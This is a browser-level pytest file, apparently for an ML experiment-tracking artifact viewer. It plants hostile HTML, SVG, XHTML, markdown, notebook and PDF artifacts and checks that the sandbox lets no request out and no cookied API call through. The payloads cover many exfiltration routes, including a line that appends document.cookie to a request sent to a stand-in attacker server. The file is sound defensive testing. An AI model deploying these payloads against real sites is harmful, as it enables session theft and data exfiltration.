"""Files that attack: in the frame of the viewer and opened as a tab no request reaches the API with a cookie, none leaves."""

import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from tests.browser.test_artifacts import put

pytestmark = pytest.mark.browser

SETTLES_MS = 500

# everything that a page can do to send something somewhere; {api} is ours, {evil} another server
ATTACK = """
<link rel="stylesheet" href="{evil}/style.css"><link rel="prefetch" href="{evil}/prefetch"><link rel="icon" href="{evil}/icon">
<style>@import "{evil}/import.css"; @font-face {{ font-family: x; src: url({evil}/font) }} p {{ font-family: x; background: url({evil}/bg) }}</style>
<img src="{evil}/img"><img src="{api}?img"><p>text</p><object data="{api}?object"></object><embed src="{evil}/embed">
<iframe src="{api}?iframe"></iframe><iframe src="{evil}/iframe"></iframe><video src="{evil}/video"></video>
<form id="f" action="{api}?form" method="post"><input name="a"></form><a id="a" href="{evil}/a" ping="{evil}/ping" target="_blank">a</a>
<script src="{evil}/script.js"></script>
<script>
const attempts = [
  () => fetch("{api}?fetch", {{credentials: "include"}}), () => fetch("{evil}/fetch", {{mode: "no-cors", method: "POST"}}),
  () => {{ const x = new XMLHttpRequest(); x.open("GET", "{api}?xhr"); x.withCredentials = true; x.send(); }},
  () => navigator.sendBeacon("{evil}/beacon", "x"), () => new WebSocket("{evil}/ws".replace("http", "ws")),
  () => new EventSource("{evil}/events"), () => new Worker("{api}?worker"), () => import("{evil}/module.js"),
  () => navigator.serviceWorker.register("{api}?sw"), () => window.open("{evil}/open"), () => window.open("{api}?open"),
  () => {{ top.location = "{evil}/top"; }}, () => {{ parent.location = "{api}?parent"; }}, () => f.submit(), () => a.click(),
  () => parent.document.cookie, () => {{ document.cookie = "stolen=1"; }}, () => localStorage.setItem("a", "b"),
  () => {{ new Image().src = "{evil}/image?" + document.cookie; }},
];
for (const attempt of attempts) try {{ Promise.resolve(attempt()).catch(() => 0); }} catch {{}}
</script>
"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch(\'{api}?svg\')"><script>fetch("{evil}/svg")</script><image href="{evil}/svg-image" width="9" height="9"/><style>@import "{evil}/svg-style";</style></svg>'
XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>fetch("{api}?xhtml"); fetch("{evil}/xhtml")</script></body></html>'
MARKDOWN = '![x]({evil}/markdown)\n\n<img src="{evil}/raw">\n\n<script>fetch("{api}?md")</script>'
FILES = {
    "page.html": ATTACK,
    "page.htm": ATTACK,
    "leaves.html": '<script>location = "{evil}/location"</script>',
    "refresh.html": '<meta http-equiv="refresh" content="0; url={evil}/refresh">',
    "calls.html": '<script>location = "{api}?location"</script>',
    "picture.jpg.html": "\xff\xd8\xff\xe0\0\4ab" + ATTACK,
    "picture.jpg": "\xff\xd8\xff\xe0\0\4ab" + ATTACK,
    "drawing.svg": SVG,
    "page.xhtml": XHTML,
    "page.xml": XHTML,
    "code.js": 'fetch("{evil}/js")',
    "README.md": MARKDOWN,
    "notes.ipynb": '{{"cells": [{{"cell_type": "markdown", "source": "![x]({evil}/nb)"}}, {{"cell_type": "code", "outputs": [{{"output_type": "display_data", "data": {{"text/html": "<img src={evil}/nb-html>"}}}}]}}]}}',
    "form.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({evil}/pdf)>>>>endobj\ntrailer<</Root 1 0 R>>",
}


@pytest.fixture(scope="module")
def evil():
    """Another server, which remembers what it was asked for."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.server.asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *words):
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def hostile(door, evil):
    """The id of a run that logged every file of FILES."""
    answer = door.server.post("runs/create", experiment_id="0", run_name="hostile", start_time=1)
    run_id = answer["run"]["info"]["run_id"]
    places = {"api": f"{door.url}/api/2.0/mlflow/experiments/search", "evil": f"http://127.0.0.1:{evil.server_port}"}
    for name, text in FILES.items():
        put(door.server, run_id, name, text.format(**places).encode("latin-1"))
    return run_id


class Calls:
    """Requests of a browser that reached the API or came from a file: their address, and whether a session stood in them."""

    def __init__(self, context):
        self.found = []
        context.on("response", self._on_response)

    def _on_response(self, response):
        if "/api/" in response.url:
            self.found.append((response.url, "assay_session" in response.request.all_headers().get("cookie", "")))

    @property
    def with_cookie(self):
        return [url for url, has_session in self.found if has_session]


def visit(door, browser, evil, url):
    """Return (calls, what the other server was asked for, the tab's last address)."""
    evil.asked.clear()
    with door.context(browser) as context:
        calls = Calls(context)
        tab = context.new_page()
        tab.on("dialog", lambda dialog: dialog.dismiss())
        answer = tab.goto(url)
        tab.wait_for_timeout(SETTLES_MS)
        assert "stolen" not in [cookie["name"] for cookie in context.cookies()]
        return calls, list(evil.asked), tab.url, answer.status


@pytest.mark.parametrize("name", FILES)
def test_in_its_frame_it_reaches_nothing(door, browser, evil, hostile, name):
    calls, asked, url, status = visit(door, browser, evil, f"/runs/{hostile}/artifacts?path={name}")

    assert status == 200
    assert calls.with_cookie == []
    assert asked == []
    assert url.endswith(f"/artifacts?path={name}")


SHOWN = [name for name in FILES if name.endswith((".html", ".htm", ".svg"))]


@pytest.mark.parametrize("name", SHOWN)
def test_as_a_tab_it_reaches_nothing(door, browser, evil, hostile, name):
    calls, asked, url, status = visit(door, browser, evil, f"/artifacts/{hostile}/raw?path={name}")

    assert status == 200
    assert calls.with_cookie == []
    assert asked == []
    assert url.startswith(door.url)
